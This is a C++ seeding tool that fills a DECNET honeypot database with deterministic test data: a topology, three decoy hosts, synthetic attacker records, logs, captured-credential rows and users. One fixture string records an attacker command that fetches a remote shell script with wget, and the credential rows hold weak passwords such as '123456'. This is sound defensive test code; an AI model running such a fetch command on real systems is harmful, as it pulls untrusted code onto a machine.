// api_seed DB_PATH [--attackers N] [--user NAME PASSWORD] [--viewer NAME PASSWORD]
// Fills a DECNET database for the API tests and benchmarks: N attackers (with logs, credentials, bounty,
// behaviour for the first ones), a topology with deckies, and users. Deterministic.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "decnet/http/auth.h"
#include "decnet/storage/repository.h"

using namespace decnet;

static std::string Ip(int i) {
  return "10." + std::to_string((i >> 16) & 255) + "." + std::to_string((i >> 8) & 255) + "." + std::to_string(i & 255);
}

static int Die(const char* what, const Error& e) {
  std::fprintf(stderr, "api_seed: %s: %s\n", what, e.message.c_str());
  return 1;
}

int main(int argc, char** argv) {
  if (argc < 2) {
    std::fprintf(stderr, "usage: api_seed DB [--attackers N] [--user NAME PW] [--viewer NAME PW]\n");
    return 2;
  }
  storage::DbConfig cfg;
  cfg.path = argv[1];
  auto repo = storage::Open(cfg);
  if (!repo) return Die("open", repo.error());
  auto& r = **repo;
  int attackers = 0;
  for (int i = 2; i < argc; ++i) {
    if (!std::strcmp(argv[i], "--attackers") && i + 1 < argc) {
      attackers = std::atoi(argv[++i]);
    } else if ((!std::strcmp(argv[i], "--user") || !std::strcmp(argv[i], "--viewer")) && i + 2 < argc) {
      storage::UserRow u;
      u.role = !std::strcmp(argv[i], "--user") ? "admin" : "viewer";
      u.uuid = http::RandomHex(16);
      u.username = argv[i + 1];
      u.password_hash = *http::HashPassword(argv[i + 2]);
      u.created_at_us = 1700000000000000;
      if (auto st = r.CreateUser(u); !st) return Die("user", st.error());
      i += 2;
    }
  }
  const int64_t base = 1764000000000000;  // 2025-11-24T16:00:00Z
  if (!r.Begin()) return 1;
  storage::TopologyRow t;
  t.id = "topo1";
  t.name = "lab";
  t.hash = "h1";
  t.json = R"({"name":"lab"})";
  t.created_at_us = base;
  t.status = "active";
  if (auto st = r.UpsertTopology(t); !st) return Die("topology", st.error());
  for (int d = 0; d < 3; ++d) {
    storage::DeckyRow dr;
    dr.name = "decky-0" + std::to_string(d + 1);
    dr.topology_id = "topo1";
    dr.ip = "192.168.1." + std::to_string(10 + d);
    dr.json = R"({"services":["ssh","http"]})";
    dr.state = "running";
    dr.updated_at_us = base;
    if (auto st = r.UpsertDecky(dr); !st) return Die("decky", st.error());
  }
  for (int i = 0; i < attackers; ++i) {
    storage::AttackerRow a;
    a.ip = Ip(i + 1);
    a.first_seen_us = base + int64_t(i) * 1000000;
    a.last_seen_us = base + int64_t(i) * 1000000 + 60000000;
    a.event_count = 3 + i % 50;
    a.services = R"(["ssh","http"])";
    a.deckies = R"(["decky-01"])";
    a.score = (i * 37) % 100;
    a.score_reasons = R"(["brute force"])";
    a.commands = R"(["uname -a","wget http://x/y.sh"])";
    a.fingerprints = R"([{"type":"ja3","value":"abc"}])";
    a.credential_count = i < 1000 ? 1 : 0;
    a.updated_at_us = a.last_seen_us;
    if (auto st = r.UpsertAttacker(a); !st) return Die("attacker", st.error());
    if (i < 1000) {
      for (int k = 0; k < 3; ++k) {
        storage::LogRow l;
        l.ts_us = a.first_seen_us + k * 20000000;
        l.decky = "decky-0" + std::to_string(1 + k % 3);
        l.service = k == 0 ? "ssh" : "http";
        l.event_type = k == 0 ? "login_attempt" : "request";
        l.attacker_ip = a.ip;
        l.msg = k == 0 ? "failed password for root from " + a.ip : "GET /admin HTTP/1.1";
        l.raw_line = "<134>1 - " + l.decky + " " + l.service + " - " + l.event_type + " - " + l.msg;
        l.fields = R"({"src_ip":")" + a.ip + R"("})";
        if (auto id = r.InsertLog(l); !id) return Die("log", id.error());
      }
      storage::CredentialRow c;
      c.ts_us = a.first_seen_us;
      c.attacker_ip = a.ip;
      c.decky = "decky-01";
      c.service = "ssh";
      c.username = "root";
      c.secret = i % 2 ? "123456" : "admin";
      if (auto id = r.InsertCredential(c); !id) return Die("credential", id.error());
      storage::BountyRow b;
      b.ts_us = a.first_seen_us;
      b.decky = "decky-01";
      b.service = "ssh";
      b.attacker_ip = a.ip;
      b.bounty_type = "fingerprint";
      b.payload = R"({"fingerprint_type":"hassh","value":"deadbeef"})";
      if (auto id = r.InsertBounty(b); !id) return Die("bounty", id.error());
    }
    if (i < 10) {
      storage::AttackerBehaviorRow bh;
      bh.ip = a.ip;
      bh.os_guess = "Linux";
      bh.behavior_class = "interactive";
      bh.updated_at_us = a.last_seen_us;
      if (auto st = r.UpsertAttackerBehavior(bh); !st) return Die("behavior", st.error());
    }
    if (i % 5000 == 4999) {
      if (!r.Commit() || !r.Begin()) return 1;
    }
  }
  if (!r.Commit()) return 1;
  std::printf("seeded %d attackers into %s\n", attackers, cfg.path.c_str());
  return 0;
}
